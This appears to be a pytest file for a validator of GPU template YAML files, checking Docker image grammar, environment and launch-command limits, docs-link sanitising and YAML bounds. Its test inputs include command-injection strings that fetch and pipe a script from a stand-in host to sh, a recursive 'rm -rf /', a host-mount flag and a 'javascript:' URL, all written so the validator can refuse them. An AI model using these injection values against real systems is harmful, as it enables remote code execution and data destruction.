"""The catalog as a contract: what a template file may hold (image grammar, Vast.ai's bounds,
http(s) docs links, bounded YAML), every refusal one line ``file: field: reason``, the public
docs link cut to scheme://host/path, and the JSON Schema editors validate with."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from pydantic import ValidationError

from bot.__main__ import main as bot_main
from bot.services.deploy import launch_spec
from catalog import BUILTIN_SLUGS, Catalog, CatalogError, Template, load_catalog, validate_dir
from catalog.cli import main_validate
from catalog.export import export_template, public_url
from catalog.loader import MAX_DEPTH, MAX_FILE_BYTES
from catalog.models import (
    ENV_ENTRY_MAX,
    ENV_TOTAL_MAX,
    IMAGE_MAX,
    LAUNCH_COMMAND_MAX,
    image_problem,
)
from catalog.schema import template_json_schema
from tests.test_catalog import template_data, write

ROOT = Path(__file__).resolve().parent.parent


def problems_in(folder: Path) -> list[str]:
    """The problems ``catalog validate`` reports for ``folder``; each must be one line."""
    with pytest.raises(CatalogError) as info:
        load_catalog(folder)
    problems = info.value.problems
    assert validate_dir(folder) == problems
    for problem in problems:
        assert problem.splitlines() == [problem], problem
    return problems


def only_problem(folder: Path, path: Path, field: str) -> str:
    """The one problem of ``folder``; it is ``<path>: <field>: <reason>``: the reason."""
    (problem,) = problems_in(folder)
    prefix = f"{path}: {field}: "
    assert problem.startswith(prefix), problem
    return problem[len(prefix) :]


# -- docker_image: the Docker reference grammar ------------------------------------------------


@pytest.mark.parametrize(
    "image",
    [
        "x;curl${IFS}https://evil.example/x.sh|sh",  # no space: main let it through
        "x;curl https://evil.example/x.sh|sh",
        "vllm/vllm-openai:v0.6.3&&rm${IFS}-rf${IFS}/",
        "$(curl evil.example)",
        "vllm/vllm-openai:v0.6.3\n--privileged",
        "-v/:/host",
        "vllm//openai",
        "vllm/openai:",
        "vllm/openai@sha256:abc",
        "vllm/openai:" + "t" * 129,
        "ghcr.io/x:tag:@vastai-automatic-tag",
    ],
)
def test_an_image_outside_the_reference_grammar_is_refused(tmp_path: Path, image: str) -> None:
    path = write(tmp_path, "bad.yaml", template_data(docker_image=image))
    reason = only_problem(tmp_path, path, "docker_image")
    assert "is not a Docker image reference" in reason
    assert 'e.g. "vllm/vllm-openai:v0.6.3"' in reason


def test_the_image_problems_name_case_length_and_path() -> None:
    assert "must be lowercase" in (image_problem("vllm/VLLM-openai:v1") or "")
    assert f"at most {IMAGE_MAX}" in (image_problem("a" * (IMAGE_MAX + 1)) or "")
    assert "at most 255" in (image_problem("a" * 256) or "")
    assert image_problem("a" * 255) is None


@pytest.mark.parametrize(
    "image",
    [
        "ubuntu",
        "vllm/vllm-openai:v0.6.3",
        "quay.io/jupyter/pytorch-notebook:cuda11-latest",
        "localhost:5000/team/model_x__y.z-1:2024.06",
        "[2001:db8::1]:5000/img:1",
        "registry.example.com/a/b/c@sha256:" + "0123456789abcdef" * 4,
        "img:v1@sha512:" + "ab" * 64,
        "vastai/base-image:@vastai-automatic-tag",
    ],
)
def test_references_docker_takes_are_accepted(image: str) -> None:
    assert image_problem(image) is None
    assert Template.model_validate(template_data(docker_image=image)).docker_image == image


# -- launch_command and env: what Vast.ai takes -----------------------------------------------


def test_a_launch_command_longer_than_vast_takes_is_refused(tmp_path: Path) -> None:
    fits = "echo " + "a" * (LAUNCH_COMMAND_MAX - 5)
    assert Template.model_validate(template_data(launch_command=f"  {fits}\n")).launch_command
    path = write(tmp_path, "long.yaml", template_data(launch_command=fits + "a"))
    reason = only_problem(tmp_path, path, "launch_command")
    assert reason.startswith(f"is {LAUNCH_COMMAND_MAX + 1} bytes; Vast.ai takes at most 4096")
    # Bytes, not characters: 2049 × "é" is 4098 bytes.
    path.write_text(yaml.safe_dump(template_data(launch_command="é" * 2049)))
    assert only_problem(tmp_path, path, "launch_command").startswith("is 4098 bytes")


def test_an_empty_launch_command_means_the_images_entrypoint(tmp_path: Path) -> None:
    text = yaml.safe_dump({k: v for k, v in template_data().items()}) + "launch_command:\n"
    write(tmp_path, "empty.yaml", text)
    (template,) = [t for t in load_catalog(tmp_path) if t.slug == "llama"]
    assert template.launch_command == ""
    spec = launch_spec(template, password=None)
    assert (spec.runtype, spec.onstart) == ("args", None)


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({"TOKEN": "s" * (ENV_ENTRY_MAX + 1)}, "the value of TOKEN is 257 bytes; Vast.ai takes"),
        ({"TOKEN": "é" * 129}, "the value of TOKEN is 258 bytes"),
        ({"A" * (ENV_ENTRY_MAX + 1): "x"}, "is over 256 bytes"),
        ({"TOKEN": "se\x00cret"}, "the value of TOKEN must not contain a NUL character"),
        ({"BAD\nNAME": "x"}, "is not a valid environment variable name"),
    ],
)
def test_env_entries_are_bounded_and_values_never_quoted(
    tmp_path: Path, env: dict[str, str], expected: str
) -> None:
    path = write(tmp_path, "env.yaml", template_data(env=env))
    reason = only_problem(tmp_path, path, "env")
    assert expected in reason
    for value in env.values():
        assert value not in reason


def test_all_of_env_is_bounded_with_the_ports_and_the_password(tmp_path: Path) -> None:
    env = {f"VAR_{i:03d}": "v" * ENV_ENTRY_MAX for i in range(130)}  # about 35 KB as JSON
    path = write(tmp_path, "env.yaml", template_data(env=env, password_env="WEB_PASSWORD"))
    reason = only_problem(tmp_path, path, "env")
    assert reason.endswith(f"Vast.ai takes at most {ENV_TOTAL_MAX}")
    assert "with the port requests and the generated password" in reason
    fits = {f"VAR_{i:03d}": "v" * ENV_ENTRY_MAX for i in range(100)}
    assert Template.model_validate(template_data(env=fits)).env == fits


# -- docs_url: http(s), shown safely, public without secrets -----------------------------------


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("javascript:alert(1)", "is not an http:// or https:// URL"),
        ("https:///no-host", "is not an http:// or https:// URL"),
        ("https://docs.example.com:99999/", "is not an http:// or https:// URL"),
        ("https://docs.example.com/|<!channel>", 'contains "|"'),
        ("https://good.example|Click here", 'contains "|"'),
        ("https://docs.example.com/a b", 'contains " "'),
        ("https://docs.example.com/\u2028x", r'contains "\u2028"'),
    ],
)
def test_a_docs_url_must_be_a_plain_http_link(tmp_path: Path, url: str, expected: str) -> None:
    path = write(tmp_path, "docs.yaml", template_data(docs_url=url))
    assert expected in only_problem(tmp_path, path, "docs_url")


@pytest.mark.parametrize(
    ("url", "public"),
    [
        ("https://docs.example.com/llm#access_token=abc123", "https://docs.example.com/llm"),
        ("https://docs.example.com/llm?tok=abc123&page=2", "https://docs.example.com/llm"),
        ("https://u:p@docs.example.com:8443/a/b?x=1#y", "https://docs.example.com:8443/a/b"),
        ("http://[2001:db8::1]:8080/docs", "http://[2001:db8::1]:8080/docs"),
        ("https://docs.example.com", "https://docs.example.com"),
    ],
)
def test_the_public_catalog_shows_scheme_host_and_path_only(url: str, public: str) -> None:
    assert public_url(url) == public
    template = Template.model_validate(template_data(docs_url=url))
    exported = export_template(Catalog([template], {"llama": "team/llama.yaml"}), "llama")
    assert exported is not None and exported["docs_url"] == public


# -- YAML: bounded size and depth, one line per refusal -----------------------------------------


def test_deep_nesting_is_one_line_not_a_recursion_error(tmp_path: Path) -> None:
    path = write(tmp_path, "deep.yaml", "[" * 500 + "]" * 500)
    assert path.stat().st_size <= 1024
    (problem,) = problems_in(tmp_path)
    assert problem == f"{path}: yaml: nested deeper than {MAX_DEPTH} levels at line 1, column 21"
    nested_env = template_data(env={"A": "x"})
    text = yaml.safe_dump(nested_env).replace("A: x", "A: " + "{a: " * 30 + "x" + "}" * 30)
    write(tmp_path, "deep.yaml", text)
    (problem,) = problems_in(tmp_path)
    assert problem.startswith(f"{path}: yaml: nested deeper than {MAX_DEPTH} levels at line ")


def test_a_file_over_the_size_limit_is_not_parsed(tmp_path: Path) -> None:
    path = write(tmp_path, "big.yaml", "# padding\n" * (MAX_FILE_BYTES // 10 + 1))
    (problem,) = problems_in(tmp_path)
    assert problem == (
        f"{path}: file: is {path.stat().st_size} bytes; a template file may be at most "
        f"{MAX_FILE_BYTES} (256 KB)"
    )


def test_line_breaks_in_names_keys_and_values_stay_on_one_line(tmp_path: Path) -> None:
    write(tmp_path, "odd\nname.yaml", template_data(slug="bad\nslug"))
    write(tmp_path, "keys.yaml", {**template_data(slug="other"), "evil\u2028key": 1})
    problems = problems_in(tmp_path)
    assert len(problems) == 2
    assert any("\\u000a" in p and "slug:" in p for p in problems)
    assert any("evil\\u2028key: unknown key" in p for p in problems)


def test_validate_and_start_up_print_one_line_for_a_deep_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path / "team", "deep.yaml", "[" * 500)
    expected = f"{path}: yaml: nested deeper than {MAX_DEPTH} levels at line 1, column 21"

    assert main_validate(tmp_path / "team") == 1
    assert capsys.readouterr().err == expected + "\n"

    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "VAST_"))}
    env.update(
        PYTHONPATH=str(ROOT),
        SLACK_BOT_TOKEN="xoxb-test",
        SLACK_SIGNING_SECRET="s",
        SLACK_API_URL="http://127.0.0.1:9/api/",
        DATABASE_URL=f"sqlite:///{tmp_path / 'bot.db'}",
        CATALOG_DIR=str(tmp_path / "team"),
    )
    for argv in (["catalog", "validate", str(tmp_path / "team")], []):
        result = subprocess.run(
            [sys.executable, "-m", "bot", *argv],
            cwd=tmp_path,
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
        assert result.stderr.strip().splitlines()[-1].endswith(expected), result.stderr
        assert result.returncode in (1, 2)


# -- the JSON Schema ---------------------------------------------------------------------------


def _builtin_documents() -> list[Any]:
    folder = resources.files("catalog").joinpath("builtin")
    return [
        yaml.safe_load(folder.joinpath(f"{slug}.yaml").read_text(encoding="utf-8"))
        for slug in BUILTIN_SLUGS
    ]


def test_the_schema_accepts_the_builtins_and_refuses_a_bad_file(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert bot_main(["catalog", "schema"]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed == template_json_schema()
    validator = jsonschema.Draft202012Validator(printed)
    validator.check_schema(printed)

    documents = _builtin_documents()
    for document in documents:
        validator.validate(document)
    validator.validate(documents)  # a file may hold a list of templates
    validator.validate({**template_data(), "launch_command": None})  # "leave it empty"

    fields = printed["$defs"]["Template"]["properties"]
    for name in ("slug", "docker_image", "launch_command", "env", "docs_url"):
        assert fields[name]["title"] and fields[name]["description"], name

    for bad in (
        template_data(docker_image="x;curl${IFS}https://evil.example/x.sh|sh"),
        template_data(tpu=4),
        template_data(ports=[8000, 8000]),
        template_data(docs_url="javascript:alert(1)"),
        template_data(env={"TOKEN": "s" * (ENV_ENTRY_MAX + 1)}),
        template_data(launch_command=7),
        {k: v for k, v in template_data().items() if k != "docs_url"},
    ):
        assert not validator.is_valid(bad), bad
        with pytest.raises(ValidationError):  # the model agrees
            Template.model_validate(bad)
    assert not validator.is_valid([])  # an empty list is no template file either
